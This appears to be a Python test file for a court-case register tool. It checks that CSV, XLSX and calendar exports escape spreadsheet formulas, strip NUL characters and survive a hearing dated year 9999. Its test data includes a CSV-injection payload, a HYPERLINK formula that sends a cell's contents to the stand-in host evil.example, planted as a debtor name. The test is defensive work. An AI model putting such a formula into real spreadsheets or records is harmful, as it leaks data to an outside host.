"""Exports survive what old or hostile data holds: a formula for a name, a NUL, a hearing in the year 9999.

The rows are written straight into the database, as data recorded before the register refused them would
be; the exports must neither run the formula in a manager's spreadsheet nor fail for every other case."""

from __future__ import annotations

import csv
import datetime as dt
import io

import icalendar
from openpyxl import load_workbook
from sqlalchemy import select

from docassemble.courtpack.cli import main
from docassemble.courtpack.register.export import Table, safe_cell, to_csv, to_xlsx
from docassemble.courtpack.register.models import Case, Hearing

from .helpers import new_case

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def test_safe_cell_table():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for start in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(start).startswith("'")
    assert safe_cell("Daniel\x00Okafor") == "Daniel Okafor"
    assert safe_cell("O'Brien") == "O'Brien"  # ordinary text is left as it is


def test_csv_and_xlsx_keep_a_formula_name_as_text_and_survive_a_nul(tmp_path):
    table = Table(
        "Cases",
        ["Case", "Debtor", "Balance"],
        [["A-1", FORMULA, None], ["A-2", "Nul\x00Name", None], ["A-3", "@cmd", None]],
    )
    rows = list(csv.reader(io.StringIO(to_csv([table]).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA and rows[2][1] == "Nul Name" and rows[3][1] == "'@cmd"
    (tmp_path / "t.xlsx").write_bytes(to_xlsx([table]))
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (FORMULA, "s")  # shown as typed, never a formula
    assert sheet["B2"].quotePrefix
    assert sheet["B3"].value == "Nul Name"
    assert (sheet["B4"].value, sheet["B4"].data_type) == ("@cmd", "s")


def test_cli_exports_with_hostile_names_and_a_year_9999_hearing(db_url, tmp_path, capsys):
    from docassemble.courtpack.register.db import Register
    from docassemble.courtpack.register.hearings import record_hearing

    register = Register(db_url)
    try:
        bad = new_case(register)
        good = new_case(register)
        record_hearing(
            register, good, dt.datetime(2026, 12, 20, 10, 0), "County Court at Leeds", "disposal", key="h1", who="test"
        )
        with register.transaction("test") as s:
            s.scalar(select(Case).where(Case.reference == bad)).debtor_name = FORMULA + "\x0b"  # XLSX cannot hold it
            case_id = s.scalar(select(Case.id).where(Case.reference == bad))
            s.add(
                Hearing(
                    case_id=case_id,
                    starts_at=dt.datetime(9999, 12, 31, 23, 50),
                    court="Nowhere",
                    kind="never",
                    duration_minutes=30,
                    status="listed",
                )
            )  # ends in year 10000
    finally:
        register.dispose()
    db = ("--db", db_url)
    assert main(["register", "list", "--format", "xlsx", "--out", str(tmp_path / "c.xlsx"), *db]) == 0
    names = [c.value for c in load_workbook(tmp_path / "c.xlsx").worksheets[0]["B"]]
    assert FORMULA + " " in names
    assert main(["register", "list", "--format", "csv", "--out", str(tmp_path / "c.csv"), *db]) == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "c.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA + " "
    assert main(["calendar", "export", "--out", str(tmp_path / "h.ics"), *db]) == 0
    events = icalendar.Calendar.from_ical((tmp_path / "h.ics").read_bytes()).walk("VEVENT")
    assert [str(e["UID"]) for e in events] == [f"hearing-{good}-h1@courtpack.register"]  # the 9999 one left out
    assert "Traceback" not in capsys.readouterr().err
